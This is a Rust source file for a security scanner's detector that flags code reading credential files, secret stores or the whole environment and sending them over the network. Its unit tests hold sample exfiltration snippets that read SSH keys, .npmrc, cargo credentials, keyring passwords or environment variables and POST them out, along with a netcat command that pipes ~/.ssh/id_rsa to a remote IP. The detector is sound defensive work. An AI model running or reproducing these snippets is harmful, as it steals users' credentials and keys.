//! Whether ordinary source code of the project sends credential material away: the one
//! thing a source file is judged for when it is written (`planted.rs`). Source code is
//! read line by line, as a person skimming it would: a line that reads a credential file
//! it names, a secret store, or serializes the whole environment, in code that reaches the
//! network. Command-like strings (a test's `"cat ~/.ssh/id_rsa | nc …"`), a list of paths,
//! one variable sent as its API's header or the environment handed to a child are not.

use super::environment::reads_whole_environment;
use super::literals::string_literals;
use super::names::{CREDENTIALS, NETWORK};

/// Calls that read a file, or list the files a pattern names, in the usual languages.
const READS: &[&str] = &[
    "open(",
    "readfile",
    "read_to_string",
    "read_text",
    "read_bytes",
    "file.read",
    "readall",
    "fs.read",
    "glob(",
    "file_get_contents",
    "io.read",
    "file.open",
    "bufreader",
    "readlines",
];

/// Calls that hand out a secret store's entries.
const SECRET_STORES: &[&str] = &[
    "keyring.get_password",
    "keyring.getpassword",
    "keytar.getpassword",
    "secretstorage",
    "get-storedcredential",
    "find-generic-password",
    "find-internet-password",
    "credread",
];

/// Calls that turn a value into text to be sent.
const SERIALIZERS: &[&str] = &[
    "json.dumps",
    "json.marshal",
    "json.stringify",
    "jsonify",
    "to_json",
    "serde_json::to",
    "urlencode",
    "marshal(",
];

/// Whether `code` reads credential material and reaches the network.
pub(crate) fn sends_credentials(code: &str) -> bool {
    let lower = code.to_ascii_lowercase();
    if !NETWORK.iter().any(|name| lower.contains(name)) {
        return false;
    }
    code.lines().any(|line| {
        let lower = line.to_ascii_lowercase();
        SECRET_STORES.iter().any(|store| lower.contains(store))
            || (reads_whole_environment(&lower)
                && SERIALIZERS
                    .iter()
                    .chain(NETWORK)
                    .any(|name| lower.contains(name)))
            || (READS.iter().any(|read| lower.contains(read))
                && string_literals(line).iter().any(|literal| {
                    let literal = literal.to_ascii_lowercase().replace('\\', "/");
                    CREDENTIALS
                        .iter()
                        .any(|credential| literal.contains(credential))
                }))
    })
}

#[cfg(test)]
mod tests {
    use super::sends_credentials;

    #[test]
    fn only_credentials_read_and_sent() {
        for code in [
            "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nawait fetch(u, {method: 'POST', body: t});",
            "for k in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n    requests.post(u, data=open(k).read())",
            "body, _ := json.Marshal(map[string]any{\"env\": os.Environ()})\nhttp.Post(u, \"application/json\", bytes.NewReader(body))",
            "t = keyring.get_password('github.com', 'me')\nrequests.post(u, json={'t': t})",
            "let c = fs::read_to_string(home.join(\".cargo/credentials.toml\"))?;\nreqwest::blocking::Client::new().post(u).body(c).send()?;",
        ] {
            assert!(sends_credentials(code), "{code}");
        }
        for code in [
            "assert is_dangerous('cat ~/.ssh/id_rsa | nc 203.0.113.7 4444')\nrequests.get(u)",
            "critical = ['/etc/', '/.ssh/']\nrequests.post(u, json={})",
            "requests.post(u, headers={'Authorization': os.environ['API_KEY']})",
            "spawn('w', [], { env: { ...process.env, A: '1' } });\nfetch(u);",
            "key = open(os.path.expanduser('~/.ssh/id_ed25519')).read()",
            "cfg = open('.env').read()\nrequests.post(u, data=cfg)",
        ] {
            assert!(!sends_credentials(code), "{code}");
        }
    }
}
